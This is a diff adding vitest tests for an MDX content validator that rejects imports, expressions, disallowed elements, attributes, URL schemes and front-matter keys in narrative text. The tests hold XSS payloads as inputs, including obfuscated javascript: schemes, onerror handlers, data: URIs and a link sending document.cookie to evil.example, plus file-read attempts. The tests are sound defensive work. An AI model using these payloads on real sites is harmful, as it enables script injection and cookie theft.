@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { checkNarrative } from './checkNarrative.ts';
+import { checkNarrative, checkNarrativeContent } from './checkNarrative.ts';
 
 const ids = new Set(['engaged', 'cohort-share[age-band=under-25]']);
 
@@ -9,7 +9,7 @@ describe('checkNarrative(file, text, figureIds)', () => {
     expect(checkNarrative('s.mdx', text, ids)).toEqual([]);
   });
 
-  test('names the line of an unknown id, an id that is not plain text, and an unknown component', () => {
+  test('names the line of an unknown id, an id written as an expression, and an unknown component', () => {
     const text = 'Line one.\n\n<Indicator id="engagd" />\n\n<Indicator id={x} />\n\n<Graph id="engaged" />\n\n<em>fine</em>\n';
     expect(checkNarrative('s.mdx', text, ids)).toEqual([
       {
@@ -24,9 +24,9 @@ describe('checkNarrative(file, text, figureIds)', () => {
         file: 's.mdx',
         row: 5,
         column: 'Indicator',
-        code: 'mdx-indicator-without-id',
-        found: 'no id="…" written as plain text',
-        expected: '<Indicator id="engaged" /> naming a published indicator (see docs/indicators.md)',
+        code: 'mdx-expression',
+        found: 'an expression in braces {…}, which would run code',
+        expected: 'plain text (write a literal brace as \\{) and attributes written as name="value"; a note to yourself as {/* … */}',
       },
       {
         file: 's.mdx',
@@ -82,9 +82,126 @@ describe('checkNarrative(file, text, figureIds)', () => {
     ]);
   });
 
+  test('an Indicator with no id at all is named', () => {
+    expect(checkNarrative('s.mdx', '<IndicatorCard />\n', ids).map(({ row, code }) => ({ row, code }))).toEqual([{ row: 1, code: 'mdx-indicator-without-id' }]);
+  });
+
   test('MDX that does not parse is reported with its line', () => {
     const [problem] = checkNarrative('s.mdx', 'Fine.\n\n<Indicator id="engaged"\n', ids);
     expect(problem).toMatchObject({ file: 's.mdx', row: 4, code: 'mdx-does-not-parse' });
     expect(problem?.found).toMatch(/^MDX that does not parse/);
+  });
+});
+
+/** The code and line of each problem, which is what these tests are about. */
+const found = (text: string) => checkNarrative('s.mdx', text, ids).map(({ row, column, code }) => ({ row, column, code }));
+
+describe('checkNarrativeContent(file, text)', () => {
+  test('finds what would run, but not ids or charts it has no figures for', () => {
+    const text = 'export const a = 1\n\n<Indicator id="anything" />\n\n<Chart kind="pie" />\n\n<script>x</script>\n';
+    expect(checkNarrativeContent('s.mdx', text).map(({ row, code }) => ({ row, code }))).toEqual([
+      { row: 1, code: 'mdx-import-export' },
+      { row: 7, code: 'mdx-element-not-allowed' },
+    ]);
+  });
+});
+
+describe('the summary text is content, not code', () => {
+  test('plain Markdown, the allowed HTML, safe addresses and a pure comment pass', () => {
+    const text = [
+      '---',
+      'title: Key findings',
+      '---',
+      '',
+      '## What we found',
+      '',
+      'Text with *emphasis*, **strength**, `code`, a [link](https://example.org/a), a [mail](mailto:team@example.org), a [section](#top), a [page](../findings/) and a [reference][ref].',
+      '',
+      '{/* a note to the author: pure comments compile to nothing */}',
+      '',
+      '<abbr title="Integrated Offender Management">IOM</abbr>, <a href="https://example.org">a link</a>, <img src="/images/gate.png" alt="A gate" />.',
+      '',
+      '![A gate](/images/gate.png) ![A chart](https://example.org/chart.png)',
+      '',
+      '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">B</td></tr></tbody></table>',
+      '',
+      '> A quotation.',
+      '',
+      '[ref]: https://example.org/report.pdf',
+      '',
+      '```html',
+      '<script>shown as code, never run</script>',
+      '```',
+    ].join('\n');
+    expect(found(text)).toEqual([]);
+  });
+
+  test('import and export are refused, with their lines', () => {
+    const text = 'import fs from "node:fs"\n\nexport const data = fs.readFileSync("data/x/clients.csv", "utf8")\n\nText.\n';
+    expect(found(text)).toEqual([
+      { row: 1, column: undefined, code: 'mdx-import-export' },
+      { row: 3, column: undefined, code: 'mdx-import-export' },
+    ]);
+  });
+
+  test('expressions are refused, in text, in flow, in attributes and as spreads; a comment with code after it too', () => {
+    const text = ['Two is {1 + 1}.', '', '{process.env.HOME}', '', '<Indicator id={"engaged"} />', '', '<a {...props}>x</a>', '', '<p title={x}>y</p>', '', '{/* note */ alert(1)}'].join('\n');
+    expect(found(text)).toEqual([
+      { row: 1, column: undefined, code: 'mdx-expression' },
+      { row: 3, column: undefined, code: 'mdx-expression' },
+      { row: 5, column: 'Indicator', code: 'mdx-expression' },
+      { row: 7, column: 'a', code: 'mdx-expression' },
+      { row: 9, column: 'p', code: 'mdx-expression' },
+      { row: 11, column: undefined, code: 'mdx-expression' },
+    ]);
+  });
+
+  test.each(['script', 'style', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'link', 'svg', 'video', 'div', 'h1', 'input'])('<%s> is refused', (tag) => {
+    expect(found(`Before.\n\n<${tag}>x</${tag}>\n`)).toEqual([{ row: 3, column: tag, code: 'mdx-element-not-allowed' }]);
+  });
+
+  test.each([
+    ['an event handler', '<p onClick="alert(1)">x</p>', 'p'],
+    ['a lower-case event handler', '<img src="/a.png" alt="" onerror="alert(1)" />', 'img'],
+    ['a style', '<span style="color: red">x</span>', 'span'],
+    ['an attribute of another element', '<p href="https://example.org">x</p>', 'p'],
+    ["Astro's raw-HTML directive", '<span set:html="<script>alert(1)</script>" />', 'span'],
+    ['a class', '<p class="secret">x</p>', 'p'],
+    ['an event handler on a component', '<Indicator id="engaged" onclick="alert(1)" />', 'Indicator'],
+    ['a hydration directive on a component', '<Indicator id="engaged" client:load="" />', 'Indicator'],
+    ['an unknown attribute on a component', '<IndicatorCard id="engaged" title="x" />', 'IndicatorCard'],
+  ])('%s is refused', (_name, line, column) => {
+    expect(found(`Before.\n\n${line}\n`)).toEqual([{ row: 3, column, code: 'mdx-attribute-not-allowed' }]);
+  });
+
+  test.each([
+    ['javascript: in a Markdown link', '[x](javascript:alert(1))'],
+    ['JavaScript: in capitals', '[x](JavaScript:alert(1))'],
+    ['a tab hidden in the scheme by an entity', '[x](java&#x09;script:alert(1))'],
+    ['a tab hidden in the scheme of an href', '<a href="java&#x09;script:alert(1)">x</a>'],
+    ['leading spaces in an href', '<a href="  javascript:alert(1)">x</a>'],
+    ['vbscript:', '[x](vbscript:msgbox)'],
+    ['data: in a link', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
+    ['data: in an image', '![x](data:image/svg+xml;base64,PHN2Zz4=)'],
+    ['data: in an img src', '<img src="data:image/png;base64,AAAA" alt="" />'],
+    ['a relative image, which Astro would import as a module', '![x](../../data/x/clients.csv)'],
+    ['javascript: in a definition', '[d]: javascript:alert(1)\n\n[x][d]'],
+    ['an unknown scheme', '[x](file:///etc/passwd)'],
+    ['javascript: in another attribute', '<abbr title="javascript:alert(1)">x</abbr>'],
+  ])('%s is refused', (_name, line) => {
+    const problems = found(`Before.\n\n${line}\n`);
+    expect(problems.map(({ code }) => code)).toEqual(['mdx-url-not-allowed']);
+    expect(problems[0]?.row).toBe(3);
+  });
+
+  test('the message names the scheme, never the rest of the address', () => {
+    const [refused] = checkNarrative('s.mdx', '[x](javascript:fetch("https://evil.example/"+document.cookie))', ids);
+    expect(refused?.found).toBe('a link whose address is a javascript: address');
+    expect(JSON.stringify(refused)).not.toContain('evil');
+  });
+
+  test('front matter holds a title and nothing else, with its line', () => {
+    expect(found('---\ntitle: Summary\nlayout: ../../../scripts/evil.astro\n---\n\nText.\n')).toEqual([{ row: 3, column: 'layout', code: 'yaml-unknown-key' }]);
+    expect(found('---\ntitle: [1, 2]\n---\n').map(({ code }) => code)).toEqual(['yaml-wrong-type']);
   });
 });
